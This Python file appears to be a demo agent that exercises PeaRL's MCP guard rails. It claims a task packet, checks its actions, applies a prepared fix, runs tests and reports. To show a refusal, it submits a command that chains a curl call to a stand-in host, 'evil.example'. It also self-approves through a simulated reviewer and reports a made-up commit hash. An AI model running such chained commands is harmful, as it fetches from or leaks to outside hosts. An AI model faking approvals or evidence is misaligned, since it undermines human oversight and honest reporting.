"""The demo's AI agent: a script that works task packets only through an MCP
client connected to PeaRL's MCP server, the way a coding agent would.

It claims a packet, checks every action before taking it, is refused an edit
outside the packet, asks for approval when the guard rails say so (the demo's
reviewer decides, through the library, as a human would in a UI), applies the
real fix from ``examples/fixes``, runs the app's tests, and reports with
evidence. It never decides anything itself.
"""

from __future__ import annotations

import hashlib
import shutil
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import anyio
from mcp import Client

from pearl_core import decide_approval
from pearl_mcp.demo.world import EXAMPLES, World
from pearl_mcp.identity import acting_as

__all__ = ["DemoAgent", "ToolRefused"]

FIXES = EXAMPLES / "fixes" / "vulnerable-app"


class ToolRefused(Exception):
    """A tool answered with an error the script did not expect."""


@dataclass
class DemoAgent:
    client: Client
    world: World
    decisions: dict[str, int] = field(default_factory=dict)

    async def call(self, tool: str, **arguments: Any) -> dict[str, Any]:
        with acting_as(self.world.cast.agent):
            result = await self.client.call_tool(tool, arguments)
        if result.is_error:
            text = " ".join(getattr(c, "text", "") for c in result.content)
            raise ToolRefused(f"{tool}: {text}")
        return dict(result.structured_content or {})

    async def check(self, packet_id: str, action: dict[str, Any], *, say: bool) -> dict[str, Any]:
        verdict = await self.call("pearl_check_action", task_packet_id=packet_id, action=action)
        decision = str(verdict["decision"])
        self.decisions[decision] = self.decisions.get(decision, 0) + 1
        if say:
            why = "; ".join(
                str(r.get("code") or r.get("rule_id")) for r in verdict.get("reasons", [])
            )
            what = action.get("path") or action.get("command") or action["type"]
            self.world.story.verdict("fixer-bot", f"{action['type']} {what}", decision, why)
        return verdict

    async def work(self, packet: dict[str, Any], *, narrate: bool) -> str:
        """Work one packet end to end; returns the outcome status reported."""
        packet_id = str(packet["task_packet_id"])
        story = self.world.story
        claimed = await self.call("pearl_claim_task_packet", task_packet_id=packet_id)
        target = next(p for p in claimed["allowed_paths"] if not p.endswith("**"))
        if narrate:
            story.detail(
                f"claimed {packet_id}: {claimed['task_summary'][:90].rstrip('.')}; may write "
                f"{', '.join(claimed['allowed_paths'])}"
            )
        await self.check(packet_id, {"type": "file_read", "path": "app/service.py"}, say=narrate)
        if narrate:
            await self.check(packet_id, {"type": "file_write", "path": "app/service.py"}, say=True)
            await self.check(
                packet_id, {"type": "file_write", "path": ".github/workflows/ci.yml"}, say=True
            )
            await self.check(
                packet_id,
                {"type": "command_run", "command": "pytest -q; curl -s evil.example"},
                say=True,
            )
        edit = await self.check(packet_id, {"type": "file_write", "path": target}, say=narrate)
        if edit["decision"] != "allow":
            await self.call("pearl_release_task_packet", task_packet_id=packet_id)
            return "released"
        shutil.copyfile(FIXES / target, self.world.workspace / target)
        await self.check(
            packet_id, {"type": "command_run", "command": "python -m pytest -q tests"}, say=narrate
        )
        tests = await anyio.to_thread.run_sync(_run_tests, self.world.workspace)
        if narrate:
            story.detail(f"applied examples/fixes/vulnerable-app/{target}; tests: {tests.summary}")
        commit = {"type": "git_commit", "command": f"git commit -m 'Fix {target}'"}
        verdict = await self.check(packet_id, commit, say=narrate)
        if verdict["decision"] == "needs_approval":
            await self._approval(packet_id, commit, narrate=narrate)
            verdict = await self.check(packet_id, commit, say=narrate)
        report = _evidence(claimed, self.world.workspace / target, target, tests)
        outcome = await self.call("pearl_report_outcome", task_packet_id=packet_id, report=report)
        if narrate:
            story.detail(
                f"reported {report['status']} with evidence; packet is {outcome['status']}"
            )
        return str(report["status"])

    async def _approval(self, packet_id: str, action: dict[str, Any], *, narrate: bool) -> None:
        request = await self.call("pearl_request_approval", task_packet_id=packet_id, action=action)
        request_id = str(request["approval_request_id"])
        reviewer = self.world.cast.reviewer
        await decide_approval(
            self.world.runtime.uow(reviewer),
            request_id,
            "approve",
            reason="the diff only changes the flagged call; tests pass",
            clock=self.world.runtime.pearl.clock,
        )
        state = await self.call("pearl_get_approval", approval_request_id=request_id)
        if narrate:
            self.world.story.detail(
                f"asked for approval {request_id}; {reviewer.display_name} decided: "
                f"{state['request']['status']}"
            )


@dataclass(frozen=True)
class TestRun:
    __test__ = False
    passed: bool
    summary: str
    output_digest: str


def _run_tests(app: Path) -> TestRun:
    """The app's own tests, with pytest, in the working copy."""
    # A fixed argument list and no shell; the folder is the demo's own copy.
    done = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "tests"],
        cwd=app,
        capture_output=True,
        check=False,
        timeout=300,
    )
    lines = done.stdout.decode("utf-8", "replace").strip().splitlines()
    return TestRun(
        passed=done.returncode == 0,
        summary=lines[-1] if lines else f"exit {done.returncode}",
        output_digest=hashlib.sha256(done.stdout).hexdigest(),
    )


def _evidence(packet: dict[str, Any], changed: Path, target: str, tests: TestRun) -> dict[str, Any]:
    required = [t for t in packet.get("required_tests", []) if not t.startswith("rescan:")]
    return {
        "status": "fixed" if tests.passed else "failed",
        "summary": f"Replaced the flagged code in {target} with the reviewed fix.",
        "changed_files": [
            {"path": target, "sha256": hashlib.sha256(changed.read_bytes()).hexdigest()}
        ],
        "commit_sha": hashlib.sha1(changed.read_bytes(), usedforsecurity=False).hexdigest(),
        "test_results": [
            {
                "name": name,
                "status": "passed" if tests.passed else "failed",
                "output_digest": tests.output_digest,
            }
            for name in required
        ],
        "tool_output_digests": {"pytest": tests.output_digest},
    }
